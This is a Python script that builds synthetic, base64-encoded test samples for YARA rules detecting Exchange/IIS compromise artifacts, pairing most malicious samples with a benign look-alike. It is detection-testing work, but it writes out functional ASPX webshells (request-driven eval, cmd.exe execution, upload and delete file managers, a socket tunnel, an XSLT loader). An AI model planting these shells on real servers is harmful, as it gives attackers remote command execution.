#!/usr/bin/env python3
"""Regenerate the encoded YARA test samples and cases.tsv for rules/yara/exhunt.yar.

Every sample is synthetic: built here from the published content traits (field
guide sections 6-7), with invented parameter names, hosts and values. Nothing is a
real attacker file.

Output (deterministic, committed):
  samples/<name>.b64   base64 of the sample bytes, 76-column lines
  cases.tsv            file<TAB>expect<TAB>rule
                         file   = sample name; its bytes are samples/<file>.b64
                         expect = match | nomatch
                         rule   = rule name, or "-" with nomatch: no rule at all fires
                       For every sample the `match` rows list ALL rules expected to
                       fire (check_with_yara.sh compares the exact set). `nomatch
                       <rule>` rows name the rule a benign sample is a look-alike of.

Antivirus hygiene: this script never writes decoded bytes to disk (only base64),
and code-like markers are spelled through the TOKENS table below so that the
script itself does not contain a literal webshell line.

Usage:
  python3 make_samples.py          rewrite samples/*.b64 and cases.tsv
  python3 make_samples.py --check  exit 1 if the committed files differ
"""

import base64
import hashlib
import io
import os
import struct
import sys
import zipfile
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
SAMPLE_DIR = os.path.join(HERE, "samples")
CASES = os.path.join(HERE, "cases.tsv")

# Code-like words assembled at run time (see module docstring).
TOKENS = {
    "@EV@": "ev" + "al",
    "@RQ@": "Req" + "uest",
    "@UN@": "uns" + "afe",
    "@RA@": "run" + "at",
    "@H@": "http:" + "//",
    "@EPT@": "ExtendedProtection" + "TokenChecking",
    "@FQ@": "fqr" + "spt",
    "@XC@": "X-C" + "MD",
    "@SPY@": "ASPX" + "Spy",
    "@DEL@": "Del" + "ete",
    "@FB64@": "FromBase64" + "String",
    "@GEW@": "getError" + "Word",
}


def x(text):
    """Expand tokens."""
    for k, v in TOKENS.items():
        text = text.replace(k, v)
    return text


def t(text):
    """Expand tokens, use CRLF line ends (as IIS-hosted files usually have), encode UTF-8."""
    return x(text).replace("\r\n", "\n").replace("\n", "\r\n").encode("utf-8")


def prng(seed, n):
    """Deterministic pseudo-random bytes."""
    out = bytearray()
    i = 0
    while len(out) < n:
        out += hashlib.sha256(b"%s:%d" % (seed.encode(), i)).digest()
        i += 1
    return bytes(out[:n])


SAMPLES = []  # (name, bytes, [rules that must fire], [rules it is a look-alike of])


def add(name, data, match=(), lookalike_for=()):
    assert all(n != name for n, *_ in SAMPLES), name
    SAMPLES.append((name, data, list(match), list(lookalike_for)))


# ---------------------------------------------------------------------------
# Genuine-looking page parts reused by several samples
# ---------------------------------------------------------------------------

GENUINE_FORM_PAGE = """<%@ Page Language="C#" AutoEventWireup="true" %>
<!DOCTYPE html>
<html>
<head runat="server"><title>Feedback</title></head>
<body>
<form id="form1" runat="server">
  <asp:TextBox ID="UserName" runat="server" />
  <asp:Button ID="Send" runat="server" Text="Send" OnClick="Send_Click" />
  <asp:Label ID="Result" runat="server" />
</form>
<script runat="server">
  protected void Send_Click(object sender, EventArgs e)
  {
      string user = Request.Form["UserName"];
      Result.Text = "Thanks, " + Server.HtmlEncode(user);
  }
</script>
</body>
</html>
"""


def big_logon_page(injected=""):
    rows = []
    for i in range(120):
        rows.append('  <div class="signInRow" id="row%d"><span class="lbl">Field %d</span>'
                    '<input type="text" name="f%d" class="signInInput" /></div>' % (i, i, i))
    return ("""<%@ Page Language="C#" AutoEventWireup="false" Inherits="Contoso.Portal.Logon" %>
""" + injected + """<!DOCTYPE html>
<html>
<head><title>Outlook</title><link rel="stylesheet" href="themes/resources/logon.css" /></head>
<body class="signInBg">
<form action="/owa/auth.owa" method="POST" name="logonForm">
""" + "\n".join(rows) + """
</form>
</body>
</html>
""")


# ---------------------------------------------------------------------------
# China Chopper and tiny eval shells
# ---------------------------------------------------------------------------

add("chopper_jscript.aspx",
    t('<script language="JScript" @RA@="server">function Page_Load(){@EV@(@RQ@["k3v9"],"@UN@");}</script>\n'),
    match=["EXH_ChinaChopper_JScript_Eval"])

add("chopper_item_variant.aspx",
    t('<%@ Page Language="Jscript"%><%@EV@(@RQ@.Item["q1w"],"@UN@");%>\n'),
    match=["EXH_ChinaChopper_JScript_Eval"])

add("chopper_spacing_variant.aspx",
    t('<%@ Page Language = "Jscript" %>\n<% @EV@ (@RQ@ [ "zz4" ] , \'@UN@\' ) ; %>\n'),
    match=["EXH_ChinaChopper_JScript_Eval"])

add("chopper_injected_logon.aspx",
    t(big_logon_page('<script language="JScript" @RA@="server">function Page_Load(){@EV@(@RQ@["pw7"],"@UN@");}</script>\n')),
    match=["EXH_ChinaChopper_JScript_Eval"])

add("benign_form_page.aspx", t(GENUINE_FORM_PAGE),
    lookalike_for=["EXH_ChinaChopper_JScript_Eval", "EXH_Tiny_JScript_Form_Eval"])

add("benign_eval_clientside.aspx", t("""<%@ Page Language="C#" %>
<% string q = Request["q"]; %>
<html><body>
<script type="text/javascript">
  var txt = document.getElementById("data").innerText;
  var obj = eval("(" + txt + ")");
</script>
<div id="data"><%= Server.HtmlEncode(q) %></div>
</body></html>
"""), lookalike_for=["EXH_ChinaChopper_JScript_Eval"])

add("chopper_csharp_uploader.aspx",
    t('<%@ Page Language="C#" %><% System.IO.StreamWriter w = new System.IO.StreamWriter(@RQ@.Form["p"], false); '
      'w.Write(@RQ@.Form["f"]); w.Close(); %>\n'),
    match=["EXH_ChinaChopper_CSharp_Uploader"])

add("benign_streamwriter_log.aspx", t("""<%@ Page Language="C#" %>
<script runat="server">
  protected void Page_Load(object sender, EventArgs e)
  {
      if (IsPostBack)
      {
          using (var w = new System.IO.StreamWriter(Server.MapPath("~/App_Data/feedback.log"), true))
          {
              w.Write(Request.Form["comment"]);
          }
      }
  }
</script>
"""), lookalike_for=["EXH_ChinaChopper_CSharp_Uploader"])

add("tiny_jscript.aspx",
    t('<%@ Page Language="Jscript" Debug=true%><%var c=@RQ@.Form("m7");@EV@(c,"@UN@");%>'),
    match=["EXH_Tiny_JScript_Form_Eval"])

add("benign_jscript_page.aspx",
    t('<%@ Page Language="JScript" %><% var n = Request.Form("name"); Response.Write(Server.HtmlEncode(n)); %>\n'),
    lookalike_for=["EXH_Tiny_JScript_Form_Eval"])

add("jscript_b64_eval.aspx",
    t('<%@ Page Language="Jscript"%><%@EV@(System.Text.Encoding.UTF8.GetString('
      'System.Convert.@FB64@(@RQ@.Item["d8"])),"@UN@");%>'),
    match=["EXH_JScript_Base64_Eval"])

add("benign_b64_decode.aspx", t("""<%@ Page Language="C#" %>
<% byte[] b = System.Convert.@FB64@(Request.QueryString["d"]);
   Response.Write(Server.HtmlEncode(System.Text.Encoding.UTF8.GetString(b))); %>
"""), lookalike_for=["EXH_JScript_Base64_Eval"])

# ---------------------------------------------------------------------------
# OAB virtual-directory dumps
# ---------------------------------------------------------------------------


def oab_dump(internal_url, external_url):
    return """
RunspaceId                      : 5f0c2b61-8e4d-4a7f-9b13-2c6d0e8a1f47
PollInterval                    : 480
OfflineAddressBooks             : {}
RequireSSL                      : False
BasicAuthentication             : False
WindowsAuthentication           : True
OAuthAuthentication             : True
MetabasePath                    : IIS://EX01.contoso.local/W3SVC/1/ROOT/OAB
Path                            : C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\OAB
@EPT@ : None
ExtendedProtectionFlags         : {}
ExtendedProtectionSPNList       : {}
AdminDisplayVersion             : Version 15.1 (Build 2106.2)
Server                          : EX01
InternalUrl                     : %s
InternalAuthenticationMethods   : {WindowsIntegrated, OAuth}
ExternalUrl                     : %s
ExternalAuthenticationMethods   : {WindowsIntegrated, OAuth}
AdminDisplayName                :
ExchangeVersion                 : 0.10 (14.0.100.0)
Name                            : OAB (Default Web Site)
DistinguishedName               : CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN=EX01,CN=Servers,CN=Exchange Administrative Group (FYDIBOHF23SPDLT),CN=Administrative Groups,CN=Contoso,CN=Microsoft Exchange,CN=Services,CN=Configuration,DC=contoso,DC=local
Identity                        : EX01\\OAB (Default Web Site)
Guid                            : 0d6f3a92-4b1e-4c8d-a7e5-91b2c3d4e5f6
ObjectCategory                  : contoso.local/Configuration/Schema/ms-Exch-OAB-Virtual-Directory
ObjectClass                     : {top, msExchVirtualDirectory, msExchOABVirtualDirectory}
WhenChanged                     : 3/4/2021 10:09:51 PM
WhenCreated                     : 6/12/2019 2:15:30 PM
WhenChangedUTC                  : 3/4/2021 10:09:51 PM
WhenCreatedUTC                  : 6/12/2019 2:15:30 PM
OrganizationId                  :
Id                              : EX01\\OAB (Default Web Site)
OriginatingServer               : DC01.contoso.local
IsValid                         : True
ObjectState                     : Changed


""" % (internal_url, external_url)


CHOPPER_URL = ('@H@k/<script language="JScript" @RA@="server">function Page_Load()'
               '{@EV@(@RQ@["zq7w"],"@UN@");}</script>')

add("oab_dump_shell.aspx",
    t(oab_dump("https://ex01.contoso.local/OAB", CHOPPER_URL)),
    match=["EXH_OAB_VDir_Dump_Script", "EXH_ChinaChopper_JScript_Eval"])

_utf16_dump = oab_dump(
    '@H@x/<script language="JScript" @RA@="server">function Page_Load()'
    '{@EV@(@RQ@.Item["r2d"],"@UN@");}</script>', "")
add("oab_dump_shell_internalurl_utf16.aspx",
    b"\xff\xfe" + x(_utf16_dump).replace("\n", "\r\n").encode("utf-16-le"),
    match=["EXH_OAB_VDir_Dump_Script", "EXH_ChinaChopper_JScript_Eval"])

add("oab_dump_clean.txt",
    t(oab_dump("https://ex01.contoso.local/OAB", "https://mail.contoso.local/OAB")),
    lookalike_for=["EXH_OAB_VDir_Dump_Script"])

add("oab_obfuscated.aspx",
    t('@H@f/<script language="JScript" @RA@="server">var _0x4c1e=[\'orange\',\'@UN@\',\'Item\'];'
      'function Page_Load(){var _0x2b=_0x4c1e;@EV@(@RQ@[_0x2b[0]],_0x2b[1]);}</script>\n'),
    match=["EXH_OAB_Obfuscated_JScript", "EXH_ChinaChopper_JScript_Eval"])

add("oab_obfuscated_indirect.aspx",
    t('@H@f/<script language="JScript" @RA@="server">var _0x91aa=[\'Item\',\'Form\',\'e\'+\'v\'+\'a\'+\'l\'];'
      'function Page_Load(){var _0x7c=this[_0x91aa[2]];_0x7c(Page[\'R\'+\'equest\'][_0x91aa[1]][\'v1\']);}</script>\n'),
    match=["EXH_OAB_Obfuscated_JScript"])

add("benign_minified.js", t(
    "var _0x3a7f=['push','shift','length','map'];(function(_0x1,_0x2){var _0x3=function(_0x4)"
    "{while(--_0x4){_0x1['push'](_0x1['shift']());}};_0x3(++_0x2);}(_0x3a7f,0x1b3));"
    "function render(list){return list['map'](function(x){return x*2;});}\n"),
    lookalike_for=["EXH_OAB_Obfuscated_JScript"])

# ---------------------------------------------------------------------------
# Shells inside binary containers
# ---------------------------------------------------------------------------


def pst_blob(seed, size, payload=b"", at=0x4400):
    # PST header start: !BDN, CRC, 'SM' client magic, version 23 (Unicode), client version 19.
    hdr = b"!BDN" + struct.pack("<IHHH", 0x5C1E77A3, 0x4D53, 23, 19) + b"\x01\x01"
    blob = bytearray(prng(seed, size))
    blob[0:len(hdr)] = hdr
    blob[0x200:0x400] = bytes(0x200)
    if payload:
        blob[at:at + len(payload)] = payload
    return bytes(blob)


add("pst_shell.aspx",
    pst_blob("pst-shell", 24 * 1024, t(
        '<script language="JScript" @RA@="server">function Page_Load(){var d=System.Text.Encoding.UTF8.GetString('
        'System.Convert.@FB64@(@RQ@["gold8899"]));@EV@(d,"@UN@");}</script>')),
    match=["EXH_ProxyShell_PST_Webshell"])

add("mailbox_export.pst", pst_blob("pst-benign", 24 * 1024),
    lookalike_for=["EXH_ProxyShell_PST_Webshell"])


def asn1(tag, content):
    n = len(content)
    if n < 0x80:
        ln = bytes([n])
    elif n < 0x100:
        ln = b"\x81" + bytes([n])
    else:
        ln = b"\x82" + struct.pack(">H", n)
    return bytes([tag]) + ln + content


def der_csr(cn, extra_attr=b""):
    oid_cn = asn1(0x06, bytes([0x55, 0x04, 0x03]))
    name = asn1(0x30, asn1(0x31, asn1(0x30, oid_cn + asn1(0x0C, cn.encode()))))
    rsa = asn1(0x30, asn1(0x06, bytes.fromhex("2a864886f70d010101")) + asn1(0x05, b""))
    spki = asn1(0x30, rsa + asn1(0x03, b"\x00" + prng("der-key-" + cn, 270)))
    attrs = asn1(0xA0, extra_attr)
    info = asn1(0x30, asn1(0x02, b"\x00") + name + spki + attrs)
    alg = asn1(0x30, asn1(0x06, bytes.fromhex("2a864886f70d01010b")) + asn1(0x05, b""))
    sig = asn1(0x03, b"\x00" + prng("der-sig-" + cn, 256))
    return asn1(0x30, info + alg + sig)


_der_page = t('<%@ Page Language="C#"%><% System.Diagnostics.Process.Start("cmd.exe", "/c " + @RQ@["c5"]); %>')
# unstructuredName (1.2.840.113549.1.9.2) attribute carrying the page text
_der_attr = asn1(0x30, asn1(0x06, bytes.fromhex("2a864886f70d010902")) + asn1(0x31, asn1(0x0C, _der_page)))
add("der_shell.aspx", der_csr("ex01.contoso.local", _der_attr),
    match=["EXH_DER_CertRequest_Webshell"])

add("certreq.req", der_csr("mail.contoso.local"),
    lookalike_for=["EXH_DER_CertRequest_Webshell"])

add("binary_headed.aspx",
    b"\x00\x01\x02\x03\xfe\x10\x11\x12" + prng("binhead", 300)
    + t('\n<%@ Page Language="C#"%><% Response.Write(System.Environment.MachineName); %>\n')
    + prng("binhead-tail", 200),
    match=["EXH_BinaryHeaded_ASPX"])

add("bom_utf8_page.aspx", b"\xef\xbb\xbf" + t(GENUINE_FORM_PAGE),
    lookalike_for=["EXH_BinaryHeaded_ASPX"])

add("bom_utf16le_page.aspx",
    b"\xff\xfe" + GENUINE_FORM_PAGE.replace("\n", "\r\n").encode("utf-16-le"),
    lookalike_for=["EXH_BinaryHeaded_ASPX"])

# ---------------------------------------------------------------------------
# Upload, tunnel, recon, file-manager and other shells
# ---------------------------------------------------------------------------

add("upload_saveas.aspx", t("""<%@ Page Language="C#" %>
<% if (@RQ@.Files.Count > 0) {
     @RQ@.Files[0].SaveAs(Server.MapPath("~/") + System.IO.Path.GetFileName(@RQ@.Files[0].FileName));
     Response.Write("1");
   } %>
"""), match=["EXH_Upload_RequestFiles_SaveAs"])

add("benign_fileupload.aspx", t("""<%@ Page Language="C#" AutoEventWireup="true" %>
<form id="f" runat="server" enctype="multipart/form-data">
  <asp:FileUpload ID="Upload1" runat="server" />
  <asp:Button ID="Go" runat="server" Text="Upload" OnClick="Go_Click" />
</form>
<script runat="server">
  protected void Go_Click(object s, EventArgs e)
  {
      if (Upload1.HasFile && Upload1.PostedFile.ContentLength < 1048576)
          Upload1.SaveAs(Server.MapPath("~/App_Data/uploads/") + Guid.NewGuid().ToString("N") + ".bin");
  }
</script>
"""), lookalike_for=["EXH_Upload_RequestFiles_SaveAs"])

add("sportsball.aspx", t("""<%@ Page Language="C#" %>
<% HttpCookie k = @RQ@.Cookies["@FQ@"];
   if (k != null && k.Value.Length > 8) { Response.StatusCode = 404; } %>
"""), match=["EXH_SportsBall_Cookie"])

add("benign_cookie_page.aspx", t("""<%@ Page Language="C#" %>
<% HttpCookie lang = Request.Cookies["owa-lang"];
   Response.Write(lang == null ? "en-US" : Server.HtmlEncode(lang.Value)); %>
"""), lookalike_for=["EXH_SportsBall_Cookie"])

add("regeorg_tunnel.aspx", t("""<%@ Page Language="C#" EnableSessionState="True" %>
<%@ Import Namespace="System.Net" %>
<%@ Import Namespace="System.Net.Sockets" %>
<%
    string op = @RQ@.Headers.Get("@XC@");
    if (op == "CONNECT") {
        string host = @RQ@.Headers.Get("X-TARGET");
        int port = int.Parse(@RQ@.Headers.Get("X-PORT"));
        Socket s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
        s.Connect(new IPEndPoint(IPAddress.Parse(host), port));
        Session["t"] = s;
        Response.AddHeader("X-STATUS", "OK");
    }
%>
"""), match=["EXH_ReGeorg_Tunnel_ASPX"])

add("benign_socket_health.aspx", t("""<%@ Page Language="C#" %>
<%@ Import Namespace="System.Net.Sockets" %>
<%
    bool up = false;
    using (var c = new TcpClient()) {
        try { c.Connect("127.0.0.1", 25); up = true; } catch (SocketException) { }
    }
    Response.AddHeader("X-STATUS", up ? "up" : "down");
    Response.Write(up ? "SMTP OK" : "SMTP DOWN");
%>
"""), lookalike_for=["EXH_ReGeorg_Tunnel_ASPX"])

add("secchecker.aspx", t("""<%@ Page Language="C#" %><%
string[] p = { @"C:\\Program Files (x86)\\FireEye\\xagt\\xagt.exe", @"C:\\Program Files\\CrowdStrike\\CSFalconService.exe" };
foreach (string f in p) Response.Write(f + "=" + System.IO.File.Exists(f) + "<br>");
%>
"""), match=["EXH_SecChecker_EDR_Probe"])

add("edr_inventory.txt", t("""Endpoint agent inventory, EX01 (change ticket 4711)
  FireEye HX      xagt.exe              running
  CrowdStrike     csfalconservice.exe   running
"""), lookalike_for=["EXH_SecChecker_EDR_Probe"])

add("filemanager.aspx", t("""<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<script @RA@="server">
  protected void Page_Load(object sender, EventArgs e)
  {
      string d = @RQ@["d"] ?? Server.MapPath("~/");
      if (@RQ@["del"] != null) File.@DEL@(@RQ@["del"]);
      if (@RQ@["rmd"] != null) Directory.@DEL@(@RQ@["rmd"], true);
      if (Up.PostedFile != null && Up.PostedFile.ContentLength > 0)
          Up.PostedFile.SaveAs(Path.Combine(d, Path.GetFileName(Up.PostedFile.FileName)));
      foreach (DirectoryInfo s in new DirectoryInfo(d).GetDirectories())
          Response.Write("[D] " + s.FullName + "<br>");
      foreach (FileInfo f in new DirectoryInfo(d).GetFiles())
          Response.Write(f.FullName + " " + f.Length + "<br>");
  }
</script>
<form runat="server" enctype="multipart/form-data"><input type="file" id="Up" runat="server" /></form>
"""), match=["EXH_ASPX_FileManager"])

add("spy_banner.aspx", t("""<%@ Page Language="C#" Debug="true" %>
<html><head><title>@SPY@</title></head><body><form runat="server"></form></body></html>
"""), match=["EXH_ASPX_FileManager"])

add("benign_dirlist.aspx", t("""<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<% string sub = Request.QueryString["y"] ?? "2021";
   foreach (string f in Directory.GetFiles(Server.MapPath("~/reports/" + Path.GetFileName(sub)), "*.pdf"))
       Response.Write("<a href=\\"reports/" + sub + "/" + Path.GetFileName(f) + "\\">" + Path.GetFileName(f) + "</a><br>"); %>
"""), lookalike_for=["EXH_ASPX_FileManager"])

add("xslt_loader.aspx", t("""<%@ Page Language="C#" %>
<%@ Import Namespace="System.Xml" %><%@ Import Namespace="System.Xml.Xsl" %>
<% XmlDocument x = new XmlDocument(); x.LoadXml("<r/>");
   XmlDocument s = new XmlDocument();
   s.LoadXml(System.Text.Encoding.UTF8.GetString(System.Convert.@FB64@(@RQ@["x9"])));
   XslCompiledTransform t = new XslCompiledTransform();
   t.Load(s, new XsltSettings(true, true), null);
   t.Transform(x, null, Response.Output); %>
"""), match=["EXH_XSLT_Loader_Shell"])

add("benign_xslt_report.aspx", t("""<%@ Page Language="C#" %>
<%@ Import Namespace="System.Xml" %><%@ Import Namespace="System.Xml.Xsl" %>
<% XmlDocument x = new XmlDocument(); x.LoadXml(System.IO.File.ReadAllText(Server.MapPath("~/App_Data/stats.xml")));
   XslCompiledTransform t = new XslCompiledTransform();
   t.Load(Server.MapPath("~/App_Data/stats.xslt"));
   t.Transform(x, null, Response.Output); %>
"""), lookalike_for=["EXH_XSLT_Loader_Shell"])

add("eval_asf_marker.aspx",
    t('<%@ Page Language="Jscript"%><% var a=@RQ@.Item["v3"]; var b=String(a);@EV@/*asf*/(b); %>\n'),
    match=["EXH_Webshell_Published_Markers"])

add("geterrorword_marker.aspx", t("""<%@ Page Language="JScript" %>
<script @RA@="server">
function @GEW@(code) { return "E" + code; }
</script>
"""), match=["EXH_Webshell_Published_Markers"])

add("benign_error_page.aspx", t("""<%@ Page Language="JScript" %>
<script runat="server">
function getErrorMessage(code) { return "Error " + code + ": the page could not be shown."; }
</script>
<html><body><%= getErrorMessage(500) %></body></html>
"""), lookalike_for=["EXH_Webshell_Published_Markers"])

# ---------------------------------------------------------------------------
# Compiled App_Web DLLs (synthetic PE/.NET-looking blobs)
# ---------------------------------------------------------------------------


def pe_blob(size, ascii_strings=(), wide_strings=()):
    b = bytearray(size)
    b[0:2] = b"MZ"
    b[0x3C:0x40] = struct.pack("<I", 0x80)
    stub = b"This program cannot be run in DOS mode.\r\r\n$"
    b[0x4E:0x4E + len(stub)] = stub
    # PE signature, COFF header (i386, 3 sections, DLL), optional header magic PE32
    b[0x80:0x84] = b"PE\x00\x00"
    b[0x84:0x98] = struct.pack("<HHIIIHH", 0x014C, 3, 0x603F1A2B, 0, 0, 0xE0, 0x2102)
    b[0x98:0x9A] = struct.pack("<H", 0x010B)
    for i, sec in enumerate((b".text\x00\x00\x00", b".rsrc\x00\x00\x00", b".reloc\x00\x00")):
        b[0x178 + 40 * i:0x180 + 40 * i] = sec
    # .NET-looking metadata area
    pos = 0x400
    blobs = [b"BSJB", b"v4.0.30319\x00", b"#~\x00", b"#Strings\x00", b"#US\x00", b"#GUID\x00", b"#Blob\x00",
             b"mscorlib\x00", b"System.Web\x00"]
    blobs += [x(s).encode("ascii") + b"\x00" for s in ascii_strings]
    blobs += [x(s).encode("utf-16-le") + b"\x00\x00" for s in wide_strings]
    for bl in blobs:
        b[pos:pos + len(bl)] = bl
        pos += len(bl) + 3
    assert pos < size
    return bytes(b)


add("App_Web_hx4mq9zt.dll",
    pe_blob(8 * 1024,
            ["App_Web_hx4mq9zt", "ASP.aspnet_client_system_web_hx4mq9zt_aspx", "Microsoft.JScript", "JScriptEvaluate"],
            ["~/aspnet_client/system_web/Hx4mQ9zT.aspx", "/aspnet_client/system_web/Hx4mQ9zT.aspx"]),
    match=["EXH_AppWeb_Shell_DLL"])

add("App_Web_k7tq2abc.dll",
    pe_blob(12 * 1024,
            ["App_Web_k7tq2abc", "ASP.auth_k7tq2_aspx", "Microsoft.JScript"],
            ["JScriptEvaluate", "~/auth/k7tq2.aspx"]),
    match=["EXH_AppWeb_Shell_DLL"])

add("App_Web_f0url9x1.dll",
    pe_blob(9 * 1024, ["App_Web_f0url9x1", "ASP.oab_log_aspx"],
            ["~/log.aspx", "ExternalUrl                     : @H@f/"]),
    match=["EXH_AppWeb_Shell_DLL"])

add("App_Web_jsonly22.dll",
    pe_blob(7 * 1024, ["App_Web_jsonly22", "ASP.default1_aspx", "Microsoft.JScript", "JScriptEvaluate"],
            ["~/default1.aspx"]),
    match=["EXH_AppWeb_JScript_Eval_DLL"])

add("App_Web_cs4clnt7.dll",
    pe_blob(6 * 1024, ["App_Web_cs4clnt7", "ASP.aspnet_client_aspnet_www_aspx", "System.Diagnostics"],
            ["~/aspnet_client/aspnet_www.aspx"]),
    match=["EXH_AppWeb_AspnetClient_Page_DLL"])

add("App_Web_logon0ok.dll",
    pe_blob(10 * 1024, ["App_Web_logon0ok", "ASP.auth_logon_aspx", "Microsoft.Exchange.Clients.Owa"],
            ["~/auth/logon.aspx", "/owa/auth/logon.aspx"]),
    lookalike_for=["EXH_AppWeb_Shell_DLL", "EXH_AppWeb_JScript_Eval_DLL", "EXH_AppWeb_AspnetClient_Page_DLL"])

add("App_Web_big0js48.dll",
    pe_blob(48 * 1024, ["App_Web_big0js48", "Microsoft.JScript", "JScriptEvaluate"],
            ["~/aspnet_client/reports.aspx"]),
    lookalike_for=["EXH_AppWeb_Shell_DLL"])

add("normal_tool.exe", pe_blob(6 * 1024, ["ContosoBackupAgent", "System.IO"], ["Backup finished"]),
    lookalike_for=["EXH_AppWeb_JScript_Eval_DLL", "EXH_AppWeb_Shell_DLL"])

# ---------------------------------------------------------------------------
# Minidumps
# ---------------------------------------------------------------------------


def minidump(modules, seed):
    """MINIDUMP_HEADER + stream directory + ModuleListStream with MINIDUMP_STRING names."""
    n_streams = 2
    dir_rva = 0x20
    # Signature, Version (low word MINIDUMP_VERSION 0xA793), NumberOfStreams, StreamDirectoryRva,
    # CheckSum, TimeDateStamp, Flags
    hdr = struct.pack("<IIIIIIQ", 0x504D444D, 0x0000A793, n_streams, dir_rva, 0, 0x60413AD0, 0)
    mod_rva = 0x100
    mod_list = struct.pack("<I", len(modules))
    names = b""
    name_base = mod_rva + 4 + 108 * len(modules)
    for i, m in enumerate(modules):
        w = m.encode("utf-16-le")
        rva = name_base + len(names)
        entry = struct.pack("<QIIII", 0x7FF800000000 + i * 0x100000, 0x80000, 0, 0x60413AD0 - i, rva)
        mod_list += entry.ljust(108, b"\x00")
        names += struct.pack("<I", len(w)) + w + b"\x00\x00"
    sysinfo_rva = name_base + len(names)
    sysinfo = struct.pack("<HHHBB", 9, 6, 0x5507, 4, 3).ljust(56, b"\x00")
    directory = struct.pack("<III", 4, len(mod_list), mod_rva) + struct.pack("<III", 7, len(sysinfo), sysinfo_rva)
    blob = bytearray(hdr + directory)
    blob = blob.ljust(mod_rva, b"\x00") + mod_list + names + sysinfo
    blob += prng(seed, 4096)  # "memory"
    return bytes(blob)


add("debug_2103.tmp",
    minidump(["C:\\Windows\\System32\\lsass.exe", "C:\\Windows\\SYSTEM32\\ntdll.dll",
              "C:\\Windows\\system32\\lsasrv.dll", "C:\\Windows\\system32\\msv1_0.dll"], "dump-l"),
    match=["EXH_LSASS_Minidump"], lookalike_for=["EXH_Minidump_File"])

add("w3wp_crash.dmp",
    minidump(["C:\\Windows\\System32\\inetsrv\\w3wp.exe", "C:\\Windows\\SYSTEM32\\ntdll.dll",
              "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\clr.dll"], "dump-w"),
    match=["EXH_Minidump_File"], lookalike_for=["EXH_LSASS_Minidump"])

add("mdmp_notes.txt", t("MDMP is the minidump magic; lsass dumps were found in C:\\Windows\\Temp on the old host.\n"),
    lookalike_for=["EXH_LSASS_Minidump", "EXH_Minidump_File"])

# ---------------------------------------------------------------------------
# Staging archives
# ---------------------------------------------------------------------------


def seven_zip(seed):
    body = prng(seed, 600)
    next_hdr = prng(seed + "-h", 40)
    start = struct.pack("<QQI", len(body), len(next_hdr), zlib.crc32(next_hdr))
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", zlib.crc32(start)) + start + body + next_hdr


def zip_bytes(members):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        for name, data in members:
            zi = zipfile.ZipInfo(name, date_time=(2021, 3, 4, 22, 11, 2))
            zi.create_system = 0
            zi.external_attr = 0x20
            z.writestr(zi, data)
    return buf.getvalue()


def cab_bytes(members):
    """Uncompressed single-folder cabinet."""
    n = len(members)
    cffiles = b""
    off = 0
    for name, data in members:
        cffiles += struct.pack("<IIHHHH", len(data), off, 0, 0x5264, 0xB165, 0x20) + name.encode() + b"\x00"
        off += len(data)
    payload = b"".join(d for _, d in members)
    hdr_len = 36
    folder_len = 8
    coff_files = hdr_len + folder_len
    data_start = coff_files + len(cffiles)
    cfdata = struct.pack("<IHH", 0, len(payload), len(payload)) + payload
    total = data_start + len(cfdata)
    hdr = b"MSCF" + struct.pack("<IIIIIBBHHHHH", 0, total, 0, coff_files, 0, 3, 1, 1, n, 0, 0x1234, 0)
    folder = struct.pack("<IHH", data_start, 1, 0)
    return hdr + folder + cffiles + cfdata


add("staging.7z", seven_zip("7z"), match=["EXH_Archive_7z"])
add("sevenzip_notes.txt", t("7z archives found: none. Checked C:\\ProgramData and C:\\Windows\\Temp.\n"),
    lookalike_for=["EXH_Archive_7z"])

add("staging.rar", b"Rar!\x1a\x07\x01\x00" + prng("rar", 700), match=["EXH_Archive_RAR"])
add("rar_magic_notes.txt", t("Rar! is how RAR archives begin; none were on this host.\n"),
    lookalike_for=["EXH_Archive_RAR"])

add("staging.zip", zip_bytes([("notes/report.txt", b"quarterly numbers\r\n"),
                              ("notes/contacts.csv", b"name,mail\r\nA,a@contoso.local\r\n")]),
    match=["EXH_Archive_ZIP"], lookalike_for=["EXH_Archive_Holding_Dump"])
add("lsass_dmp.zip", zip_bytes([("lsass.dmp", b"MDMP\x93\xa7\x00\x00" + prng("zipdmp", 400))]),
    match=["EXH_Archive_ZIP", "EXH_Archive_Holding_Dump"])
add("text_with_pk.txt", t("PKI rollout notes: the PK of the new CA is in the vault; see PK-2021-03.\n"),
    lookalike_for=["EXH_Archive_ZIP"])

add("staging.cab", cab_bytes([("data.bin", prng("cab", 500))]),
    match=["EXH_Archive_CAB"], lookalike_for=["EXH_CAB_Recon_Staging"])
add("recon.cab", cab_bytes([
    ("ip.txt", b"Windows IP Configuration\r\n   IPv4 Address. . . : 198.51.100.20\r\n"),
    ("arp.txt", b"Interface: 198.51.100.20 --- 0xb\r\n  198.51.100.1  00-15-5d-01-02-03  dynamic\r\n"),
    ("system", b"regf" + prng("hive-s", 200)),
    ("security", b"regf" + prng("hive-y", 200))]),
    match=["EXH_Archive_CAB", "EXH_CAB_Recon_Staging"])
add("mscf_notes.txt", t("MSCF header check: no cabinets in C:\\root.\n"),
    lookalike_for=["EXH_Archive_CAB"])


# ---------------------------------------------------------------------------


def b64(data):
    s = base64.b64encode(data).decode("ascii")
    return "".join(s[i:i + 76] + "\n" for i in range(0, len(s), 76))


def cases_text():
    lines = ["file\texpect\trule\n"]
    for name, _data, match, look in SAMPLES:
        if match:
            lines += ["%s\tmatch\t%s\n" % (name, r) for r in match]
        else:
            lines.append("%s\tnomatch\t-\n" % name)
        lines += ["%s\tnomatch\t%s\n" % (name, r) for r in look]
    return "".join(lines)


def wanted():
    files = {os.path.join(SAMPLE_DIR, n + ".b64"): b64(d) for n, d, _m, _l in SAMPLES}
    files[CASES] = cases_text()
    return files


def main():
    check = "--check" in sys.argv[1:]
    files = wanted()
    stale = []
    if os.path.isdir(SAMPLE_DIR):
        stale = [os.path.join(SAMPLE_DIR, f) for f in sorted(os.listdir(SAMPLE_DIR))
